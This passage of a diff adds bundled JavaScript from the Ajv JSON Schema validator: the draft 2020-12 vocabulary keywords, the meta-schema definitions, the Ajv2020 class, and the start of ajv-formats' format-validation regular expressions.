+    Object.defineProperty(exports, "__esModule", { value: true });
+    var util_1 = require_util();
+    var def = {
+      keyword: ["maxContains", "minContains"],
+      type: "array",
+      schemaType: "number",
+      code({ keyword, parentSchema, it }) {
+        if (parentSchema.contains === void 0) {
+          (0, util_1.checkStrictMode)(it, `"${keyword}" without "contains" is ignored`);
+        }
+      }
+    };
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/next.js
+var require_next = __commonJS({
+  "node_modules/ajv/dist/vocabularies/next.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var dependentRequired_1 = require_dependentRequired();
+    var dependentSchemas_1 = require_dependentSchemas();
+    var limitContains_1 = require_limitContains();
+    var next = [dependentRequired_1.default, dependentSchemas_1.default, limitContains_1.default];
+    exports.default = next;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedProperties.js
+var require_unevaluatedProperties = __commonJS({
+  "node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedProperties.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var codegen_1 = require_codegen();
+    var util_1 = require_util();
+    var names_1 = require_names();
+    var error = {
+      message: "must NOT have unevaluated properties",
+      params: ({ params }) => (0, codegen_1._)`{unevaluatedProperty: ${params.unevaluatedProperty}}`
+    };
+    var def = {
+      keyword: "unevaluatedProperties",
+      type: "object",
+      schemaType: ["boolean", "object"],
+      trackErrors: true,
+      error,
+      code(cxt) {
+        const { gen, schema, data, errsCount, it } = cxt;
+        if (!errsCount)
+          throw new Error("ajv implementation error");
+        const { allErrors, props } = it;
+        if (props instanceof codegen_1.Name) {
+          gen.if((0, codegen_1._)`${props} !== true`, () => gen.forIn("key", data, (key) => gen.if(unevaluatedDynamic(props, key), () => unevaluatedPropCode(key))));
+        } else if (props !== true) {
+          gen.forIn("key", data, (key) => props === void 0 ? unevaluatedPropCode(key) : gen.if(unevaluatedStatic(props, key), () => unevaluatedPropCode(key)));
+        }
+        it.props = true;
+        cxt.ok((0, codegen_1._)`${errsCount} === ${names_1.default.errors}`);
+        function unevaluatedPropCode(key) {
+          if (schema === false) {
+            cxt.setParams({ unevaluatedProperty: key });
+            cxt.error();
+            if (!allErrors)
+              gen.break();
+            return;
+          }
+          if (!(0, util_1.alwaysValidSchema)(it, schema)) {
+            const valid = gen.name("valid");
+            cxt.subschema({
+              keyword: "unevaluatedProperties",
+              dataProp: key,
+              dataPropType: util_1.Type.Str
+            }, valid);
+            if (!allErrors)
+              gen.if((0, codegen_1.not)(valid), () => gen.break());
+          }
+        }
+        function unevaluatedDynamic(evaluatedProps, key) {
+          return (0, codegen_1._)`!${evaluatedProps} || !${evaluatedProps}[${key}]`;
+        }
+        function unevaluatedStatic(evaluatedProps, key) {
+          const ps = [];
+          for (const p in evaluatedProps) {
+            if (evaluatedProps[p] === true)
+              ps.push((0, codegen_1._)`${key} !== ${p}`);
+          }
+          return (0, codegen_1.and)(...ps);
+        }
+      }
+    };
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedItems.js
+var require_unevaluatedItems = __commonJS({
+  "node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedItems.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var codegen_1 = require_codegen();
+    var util_1 = require_util();
+    var error = {
+      message: ({ params: { len } }) => (0, codegen_1.str)`must NOT have more than ${len} items`,
+      params: ({ params: { len } }) => (0, codegen_1._)`{limit: ${len}}`
+    };
+    var def = {
+      keyword: "unevaluatedItems",
+      type: "array",
+      schemaType: ["boolean", "object"],
+      error,
+      code(cxt) {
+        const { gen, schema, data, it } = cxt;
+        const items = it.items || 0;
+        if (items === true)
+          return;
+        const len = gen.const("len", (0, codegen_1._)`${data}.length`);
+        if (schema === false) {
+          cxt.setParams({ len: items });
+          cxt.fail((0, codegen_1._)`${len} > ${items}`);
+        } else if (typeof schema == "object" && !(0, util_1.alwaysValidSchema)(it, schema)) {
+          const valid = gen.var("valid", (0, codegen_1._)`${len} <= ${items}`);
+          gen.if((0, codegen_1.not)(valid), () => validateItems(valid, items));
+          cxt.ok(valid);
+        }
+        it.items = true;
+        function validateItems(valid, from) {
+          gen.forRange("i", from, len, (i2) => {
+            cxt.subschema({ keyword: "unevaluatedItems", dataProp: i2, dataPropType: util_1.Type.Num }, valid);
+            if (!it.allErrors)
+              gen.if((0, codegen_1.not)(valid), () => gen.break());
+          });
+        }
+      }
+    };
+    exports.default = def;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/unevaluated/index.js
+var require_unevaluated = __commonJS({
+  "node_modules/ajv/dist/vocabularies/unevaluated/index.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var unevaluatedProperties_1 = require_unevaluatedProperties();
+    var unevaluatedItems_1 = require_unevaluatedItems();
+    var unevaluated = [unevaluatedProperties_1.default, unevaluatedItems_1.default];
+    exports.default = unevaluated;
+  }
+});
+
+// node_modules/ajv/dist/vocabularies/draft2020.js
+var require_draft2020 = __commonJS({
+  "node_modules/ajv/dist/vocabularies/draft2020.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var core_1 = require_core2();
+    var validation_1 = require_validation();
+    var applicator_1 = require_applicator();
+    var dynamic_1 = require_dynamic();
+    var next_1 = require_next();
+    var unevaluated_1 = require_unevaluated();
+    var format_1 = require_format2();
+    var metadata_1 = require_metadata();
+    var draft2020Vocabularies = [
+      dynamic_1.default,
+      core_1.default,
+      validation_1.default,
+      (0, applicator_1.default)(true),
+      format_1.default,
+      metadata_1.metadataVocabulary,
+      metadata_1.contentVocabulary,
+      next_1.default,
+      unevaluated_1.default
+    ];
+    exports.default = draft2020Vocabularies;
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/schema.json
+var require_schema4 = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/schema.json"(exports, module2) {
+    module2.exports = {
+      $schema: "https://json-schema.org/draft/2020-12/schema",
+      $id: "https://json-schema.org/draft/2020-12/schema",
+      $vocabulary: {
+        "https://json-schema.org/draft/2020-12/vocab/core": true,
+        "https://json-schema.org/draft/2020-12/vocab/applicator": true,
+        "https://json-schema.org/draft/2020-12/vocab/unevaluated": true,
+        "https://json-schema.org/draft/2020-12/vocab/validation": true,
+        "https://json-schema.org/draft/2020-12/vocab/meta-data": true,
+        "https://json-schema.org/draft/2020-12/vocab/format-annotation": true,
+        "https://json-schema.org/draft/2020-12/vocab/content": true
+      },
+      $dynamicAnchor: "meta",
+      title: "Core and Validation specifications meta-schema",
+      allOf: [
+        { $ref: "meta/core" },
+        { $ref: "meta/applicator" },
+        { $ref: "meta/unevaluated" },
+        { $ref: "meta/validation" },
+        { $ref: "meta/meta-data" },
+        { $ref: "meta/format-annotation" },
+        { $ref: "meta/content" }
+      ],
+      type: ["object", "boolean"],
+      $comment: "This meta-schema also defines keywords that have appeared in previous drafts in order to prevent incompatible extensions as they remain in common use.",
+      properties: {
+        definitions: {
+          $comment: '"definitions" has been replaced by "$defs".',
+          type: "object",
+          additionalProperties: { $dynamicRef: "#meta" },
+          deprecated: true,
+          default: {}
+        },
+        dependencies: {
+          $comment: '"dependencies" has been split and replaced by "dependentSchemas" and "dependentRequired" in order to serve their differing semantics.',
+          type: "object",
+          additionalProperties: {
+            anyOf: [{ $dynamicRef: "#meta" }, { $ref: "meta/validation#/$defs/stringArray" }]
+          },
+          deprecated: true,
+          default: {}
+        },
+        $recursiveAnchor: {
+          $comment: '"$recursiveAnchor" has been replaced by "$dynamicAnchor".',
+          $ref: "meta/core#/$defs/anchorString",
+          deprecated: true
+        },
+        $recursiveRef: {
+          $comment: '"$recursiveRef" has been replaced by "$dynamicRef".',
+          $ref: "meta/core#/$defs/uriReferenceString",
+          deprecated: true
+        }
+      }
+    };
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/applicator.json
+var require_applicator2 = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/applicator.json"(exports, module2) {
+    module2.exports = {
+      $schema: "https://json-schema.org/draft/2020-12/schema",
+      $id: "https://json-schema.org/draft/2020-12/meta/applicator",
+      $vocabulary: {
+        "https://json-schema.org/draft/2020-12/vocab/applicator": true
+      },
+      $dynamicAnchor: "meta",
+      title: "Applicator vocabulary meta-schema",
+      type: ["object", "boolean"],
+      properties: {
+        prefixItems: { $ref: "#/$defs/schemaArray" },
+        items: { $dynamicRef: "#meta" },
+        contains: { $dynamicRef: "#meta" },
+        additionalProperties: { $dynamicRef: "#meta" },
+        properties: {
+          type: "object",
+          additionalProperties: { $dynamicRef: "#meta" },
+          default: {}
+        },
+        patternProperties: {
+          type: "object",
+          additionalProperties: { $dynamicRef: "#meta" },
+          propertyNames: { format: "regex" },
+          default: {}
+        },
+        dependentSchemas: {
+          type: "object",
+          additionalProperties: { $dynamicRef: "#meta" },
+          default: {}
+        },
+        propertyNames: { $dynamicRef: "#meta" },
+        if: { $dynamicRef: "#meta" },
+        then: { $dynamicRef: "#meta" },
+        else: { $dynamicRef: "#meta" },
+        allOf: { $ref: "#/$defs/schemaArray" },
+        anyOf: { $ref: "#/$defs/schemaArray" },
+        oneOf: { $ref: "#/$defs/schemaArray" },
+        not: { $dynamicRef: "#meta" }
+      },
+      $defs: {
+        schemaArray: {
+          type: "array",
+          minItems: 1,
+          items: { $dynamicRef: "#meta" }
+        }
+      }
+    };
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/unevaluated.json
+var require_unevaluated2 = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/unevaluated.json"(exports, module2) {
+    module2.exports = {
+      $schema: "https://json-schema.org/draft/2020-12/schema",
+      $id: "https://json-schema.org/draft/2020-12/meta/unevaluated",
+      $vocabulary: {
+        "https://json-schema.org/draft/2020-12/vocab/unevaluated": true
+      },
+      $dynamicAnchor: "meta",
+      title: "Unevaluated applicator vocabulary meta-schema",
+      type: ["object", "boolean"],
+      properties: {
+        unevaluatedItems: { $dynamicRef: "#meta" },
+        unevaluatedProperties: { $dynamicRef: "#meta" }
+      }
+    };
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/content.json
+var require_content = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/content.json"(exports, module2) {
+    module2.exports = {
+      $schema: "https://json-schema.org/draft/2020-12/schema",
+      $id: "https://json-schema.org/draft/2020-12/meta/content",
+      $vocabulary: {
+        "https://json-schema.org/draft/2020-12/vocab/content": true
+      },
+      $dynamicAnchor: "meta",
+      title: "Content vocabulary meta-schema",
+      type: ["object", "boolean"],
+      properties: {
+        contentEncoding: { type: "string" },
+        contentMediaType: { type: "string" },
+        contentSchema: { $dynamicRef: "#meta" }
+      }
+    };
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/core.json
+var require_core3 = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/core.json"(exports, module2) {
+    module2.exports = {
+      $schema: "https://json-schema.org/draft/2020-12/schema",
+      $id: "https://json-schema.org/draft/2020-12/meta/core",
+      $vocabulary: {
+        "https://json-schema.org/draft/2020-12/vocab/core": true
+      },
+      $dynamicAnchor: "meta",
+      title: "Core vocabulary meta-schema",
+      type: ["object", "boolean"],
+      properties: {
+        $id: {
+          $ref: "#/$defs/uriReferenceString",
+          $comment: "Non-empty fragments not allowed.",
+          pattern: "^[^#]*#?$"
+        },
+        $schema: { $ref: "#/$defs/uriString" },
+        $ref: { $ref: "#/$defs/uriReferenceString" },
+        $anchor: { $ref: "#/$defs/anchorString" },
+        $dynamicRef: { $ref: "#/$defs/uriReferenceString" },
+        $dynamicAnchor: { $ref: "#/$defs/anchorString" },
+        $vocabulary: {
+          type: "object",
+          propertyNames: { $ref: "#/$defs/uriString" },
+          additionalProperties: {
+            type: "boolean"
+          }
+        },
+        $comment: {
+          type: "string"
+        },
+        $defs: {
+          type: "object",
+          additionalProperties: { $dynamicRef: "#meta" }
+        }
+      },
+      $defs: {
+        anchorString: {
+          type: "string",
+          pattern: "^[A-Za-z_][-A-Za-z0-9._]*$"
+        },
+        uriString: {
+          type: "string",
+          format: "uri"
+        },
+        uriReferenceString: {
+          type: "string",
+          format: "uri-reference"
+        }
+      }
+    };
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/format-annotation.json
+var require_format_annotation = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/format-annotation.json"(exports, module2) {
+    module2.exports = {
+      $schema: "https://json-schema.org/draft/2020-12/schema",
+      $id: "https://json-schema.org/draft/2020-12/meta/format-annotation",
+      $vocabulary: {
+        "https://json-schema.org/draft/2020-12/vocab/format-annotation": true
+      },
+      $dynamicAnchor: "meta",
+      title: "Format vocabulary meta-schema for annotation results",
+      type: ["object", "boolean"],
+      properties: {
+        format: { type: "string" }
+      }
+    };
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/meta-data.json
+var require_meta_data = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/meta-data.json"(exports, module2) {
+    module2.exports = {
+      $schema: "https://json-schema.org/draft/2020-12/schema",
+      $id: "https://json-schema.org/draft/2020-12/meta/meta-data",
+      $vocabulary: {
+        "https://json-schema.org/draft/2020-12/vocab/meta-data": true
+      },
+      $dynamicAnchor: "meta",
+      title: "Meta-data vocabulary meta-schema",
+      type: ["object", "boolean"],
+      properties: {
+        title: {
+          type: "string"
+        },
+        description: {
+          type: "string"
+        },
+        default: true,
+        deprecated: {
+          type: "boolean",
+          default: false
+        },
+        readOnly: {
+          type: "boolean",
+          default: false
+        },
+        writeOnly: {
+          type: "boolean",
+          default: false
+        },
+        examples: {
+          type: "array",
+          items: true
+        }
+      }
+    };
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/validation.json
+var require_validation2 = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/validation.json"(exports, module2) {
+    module2.exports = {
+      $schema: "https://json-schema.org/draft/2020-12/schema",
+      $id: "https://json-schema.org/draft/2020-12/meta/validation",
+      $vocabulary: {
+        "https://json-schema.org/draft/2020-12/vocab/validation": true
+      },
+      $dynamicAnchor: "meta",
+      title: "Validation vocabulary meta-schema",
+      type: ["object", "boolean"],
+      properties: {
+        type: {
+          anyOf: [
+            { $ref: "#/$defs/simpleTypes" },
+            {
+              type: "array",
+              items: { $ref: "#/$defs/simpleTypes" },
+              minItems: 1,
+              uniqueItems: true
+            }
+          ]
+        },
+        const: true,
+        enum: {
+          type: "array",
+          items: true
+        },
+        multipleOf: {
+          type: "number",
+          exclusiveMinimum: 0
+        },
+        maximum: {
+          type: "number"
+        },
+        exclusiveMaximum: {
+          type: "number"
+        },
+        minimum: {
+          type: "number"
+        },
+        exclusiveMinimum: {
+          type: "number"
+        },
+        maxLength: { $ref: "#/$defs/nonNegativeInteger" },
+        minLength: { $ref: "#/$defs/nonNegativeIntegerDefault0" },
+        pattern: {
+          type: "string",
+          format: "regex"
+        },
+        maxItems: { $ref: "#/$defs/nonNegativeInteger" },
+        minItems: { $ref: "#/$defs/nonNegativeIntegerDefault0" },
+        uniqueItems: {
+          type: "boolean",
+          default: false
+        },
+        maxContains: { $ref: "#/$defs/nonNegativeInteger" },
+        minContains: {
+          $ref: "#/$defs/nonNegativeInteger",
+          default: 1
+        },
+        maxProperties: { $ref: "#/$defs/nonNegativeInteger" },
+        minProperties: { $ref: "#/$defs/nonNegativeIntegerDefault0" },
+        required: { $ref: "#/$defs/stringArray" },
+        dependentRequired: {
+          type: "object",
+          additionalProperties: {
+            $ref: "#/$defs/stringArray"
+          }
+        }
+      },
+      $defs: {
+        nonNegativeInteger: {
+          type: "integer",
+          minimum: 0
+        },
+        nonNegativeIntegerDefault0: {
+          $ref: "#/$defs/nonNegativeInteger",
+          default: 0
+        },
+        simpleTypes: {
+          enum: ["array", "boolean", "integer", "null", "number", "object", "string"]
+        },
+        stringArray: {
+          type: "array",
+          items: { type: "string" },
+          uniqueItems: true,
+          default: []
+        }
+      }
+    };
+  }
+});
+
+// node_modules/ajv/dist/refs/json-schema-2020-12/index.js
+var require_json_schema_2020_12 = __commonJS({
+  "node_modules/ajv/dist/refs/json-schema-2020-12/index.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var metaSchema = require_schema4();
+    var applicator = require_applicator2();
+    var unevaluated = require_unevaluated2();
+    var content = require_content();
+    var core = require_core3();
+    var format2 = require_format_annotation();
+    var metadata2 = require_meta_data();
+    var validation = require_validation2();
+    var META_SUPPORT_DATA = ["/properties"];
+    function addMetaSchema2020($data) {
+      ;
+      [
+        metaSchema,
+        applicator,
+        unevaluated,
+        content,
+        core,
+        with$data(this, format2),
+        metadata2,
+        with$data(this, validation)
+      ].forEach((sch) => this.addMetaSchema(sch, void 0, false));
+      return this;
+      function with$data(ajv, sch) {
+        return $data ? ajv.$dataMetaSchema(sch, META_SUPPORT_DATA) : sch;
+      }
+    }
+    exports.default = addMetaSchema2020;
+  }
+});
+
+// node_modules/ajv/dist/2020.js
+var require__ = __commonJS({
+  "node_modules/ajv/dist/2020.js"(exports, module2) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.MissingRefError = exports.ValidationError = exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = exports.Ajv2020 = void 0;
+    var core_1 = require_core();
+    var draft2020_1 = require_draft2020();
+    var discriminator_1 = require_discriminator();
+    var json_schema_2020_12_1 = require_json_schema_2020_12();
+    var META_SCHEMA_ID = "https://json-schema.org/draft/2020-12/schema";
+    var Ajv20202 = class extends core_1.default {
+      constructor(opts = {}) {
+        super({
+          ...opts,
+          dynamicRef: true,
+          next: true,
+          unevaluated: true
+        });
+      }
+      _addVocabularies() {
+        super._addVocabularies();
+        draft2020_1.default.forEach((v) => this.addVocabulary(v));
+        if (this.opts.discriminator)
+          this.addKeyword(discriminator_1.default);
+      }
+      _addDefaultMetaSchema() {
+        super._addDefaultMetaSchema();
+        const { $data, meta: meta9 } = this.opts;
+        if (!meta9)
+          return;
+        json_schema_2020_12_1.default.call(this, $data);
+        this.refs["http://json-schema.org/schema"] = META_SCHEMA_ID;
+      }
+      defaultMeta() {
+        return this.opts.defaultMeta = super.defaultMeta() || (this.getSchema(META_SCHEMA_ID) ? META_SCHEMA_ID : void 0);
+      }
+    };
+    exports.Ajv2020 = Ajv20202;
+    module2.exports = exports = Ajv20202;
+    module2.exports.Ajv2020 = Ajv20202;
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.default = Ajv20202;
+    var validate_1 = require_validate();
+    Object.defineProperty(exports, "KeywordCxt", { enumerable: true, get: function() {
+      return validate_1.KeywordCxt;
+    } });
+    var codegen_1 = require_codegen();
+    Object.defineProperty(exports, "_", { enumerable: true, get: function() {
+      return codegen_1._;
+    } });
+    Object.defineProperty(exports, "str", { enumerable: true, get: function() {
+      return codegen_1.str;
+    } });
+    Object.defineProperty(exports, "stringify", { enumerable: true, get: function() {
+      return codegen_1.stringify;
+    } });
+    Object.defineProperty(exports, "nil", { enumerable: true, get: function() {
+      return codegen_1.nil;
+    } });
+    Object.defineProperty(exports, "Name", { enumerable: true, get: function() {
+      return codegen_1.Name;
+    } });
+    Object.defineProperty(exports, "CodeGen", { enumerable: true, get: function() {
+      return codegen_1.CodeGen;
+    } });
+    var validation_error_1 = require_validation_error();
+    Object.defineProperty(exports, "ValidationError", { enumerable: true, get: function() {
+      return validation_error_1.default;
+    } });
+    var ref_error_1 = require_ref_error();
+    Object.defineProperty(exports, "MissingRefError", { enumerable: true, get: function() {
+      return ref_error_1.default;
+    } });
+  }
+});
+
+// node_modules/ajv-formats/dist/formats.js
+var require_formats = __commonJS({
+  "node_modules/ajv-formats/dist/formats.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.formatNames = exports.fastFormats = exports.fullFormats = void 0;
+    function fmtDef(validate2, compare) {
+      return { validate: validate2, compare };
+    }
+    exports.fullFormats = {
+      // date: http://tools.ietf.org/html/rfc3339#section-5.6
+      date: fmtDef(date, compareDate),
+      // date-time: http://tools.ietf.org/html/rfc3339#section-5.6
+      time: fmtDef(getTime(true), compareTime),
+      "date-time": fmtDef(getDateTime(true), compareDateTime),
+      "iso-time": fmtDef(getTime(), compareIsoTime),
+      "iso-date-time": fmtDef(getDateTime(), compareIsoDateTime),
+      // duration: https://tools.ietf.org/html/rfc3339#appendix-A
+      duration: /^P(?!$)((\d+Y)?(\d+M)?(\d+D)?(T(?=\d)(\d+H)?(\d+M)?(\d+S)?)?|(\d+W)?)$/,
+      uri,
+      "uri-reference": /^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
+      // uri-template: https://tools.ietf.org/html/rfc6570
+      "uri-template": /^(?:(?:[^\x00-\x20"'<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
+      // For the source: https://gist.github.com/dperini/729294
+      // For test cases: https://mathiasbynens.be/demo/url-regex
+      url: /^(?:https?|ftp):\/\/(?:\S+(?::\S*)?@)?(?:(?!(?:10|127)(?:\.\d{1,3}){3})(?!(?:169\.254|192\.168)(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z0-9\u{00a1}-\u{ffff}]+-)*[a-z0-9\u{00a1}-\u{ffff}]+)(?:\.(?:[a-z0-9\u{00a1}-\u{ffff}]+-)*[a-z0-9\u{00a1}-\u{ffff}]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
+      email: /^[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\.[a-z0-9!#$%&'*+/=?^_`{|}~-]+)*@(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z0-9](?:[a-z0-9-]*[a-z0-9])?$/i,
+      hostname: /^(?=.{1,253}\.?$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*\.?$/i,
+      // optimized https://www.safaribooksonline.com/library/view/regular-expressions-cookbook/9780596802837/ch07s16.html
+      ipv4: /^(?:(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.){3}(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)$/,
+      ipv6: /^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
+      regex,
+      // uuid: http://tools.ietf.org/html/rfc4122
+      uuid: /^(?:urn:uuid:)?[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,
+      // JSON-pointer: https://tools.ietf.org/html/rfc6901
+      // uri fragment: https://tools.ietf.org/html/rfc3986#appendix-A
+      "json-pointer": /^(?:\/(?:[^~/]|~0|~1)*)*$/,
+      "json-pointer-uri-fragment": /^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
+      // relative JSON-pointer: http://tools.ietf.org/html/draft-luff-relative-json-pointer-00
+      "relative-json-pointer": /^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,
+      // the following formats are used by the openapi specification: https://spec.openapis.org/oas/v3.0.0#data-types
+      // byte: https://github.com/miguelmota/is-base64
+      byte,
+      // signed 32 bit integer
+      int32: { type: "number", validate: validateInt32 },
+      // signed 64 bit integer
+      int64: { type: "number", validate: validateInt64 },
+      // C-type float
+      float: { type: "number", validate: validateNumber },
+      // C-type double
+      double: { type: "number", validate: validateNumber },
+      // hint to the UI to hide input strings
+      password: true,
+      // unchecked string payload
+      binary: true
+    };
+    exports.fastFormats = {
+      ...exports.fullFormats,
+      date: fmtDef(/^\d\d\d\d-[0-1]\d-[0-3]\d$/, compareDate),
+      time: fmtDef(/^(?:[0-2]\d:[0-5]\d:[0-5]\d|23:59:60)(?:\.\d+)?(?:z|[+-]\d\d(?::?\d\d)?)$/i, compareTime),
+      "date-time": fmtDef(/^\d\d\d\d-[0-1]\d-[0-3]\dt(?:[0-2]\d:[0-5]\d:[0-5]\d|23:59:60)(?:\.\d+)?(?:z|[+-]\d\d(?::?\d\d)?)$/i, compareDateTime),
+      "iso-time": fmtDef(/^(?:[0-2]\d:[0-5]\d:[0-5]\d|23:59:60)(?:\.\d+)?(?:z|[+-]\d\d(?::?\d\d)?)?$/i, compareIsoTime),
+      "iso-date-time": fmtDef(/^\d\d\d\d-[0-1]\d-[0-3]\d[t\s](?:[0-2]\d:[0-5]\d:[0-5]\d|23:59:60)(?:\.\d+)?(?:z|[+-]\d\d(?::?\d\d)?)?$/i, compareIsoDateTime),
+      // uri: https://github.com/mafintosh/is-my-json-valid/blob/master/formats.js
+      uri: /^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/)?[^\s]*$/i,
+      "uri-reference": /^(?:(?:[a-z][a-z0-9+\-.]*:)?\/?\/)?(?:[^\\\s#][^\s#]*)?(?:#[^\\\s]*)?$/i,
+      // email (sources from jsen validator):
+      // http://stackoverflow.com/questions/201323/using-a-regular-expression-to-validate-an-email-address#answer-8829363
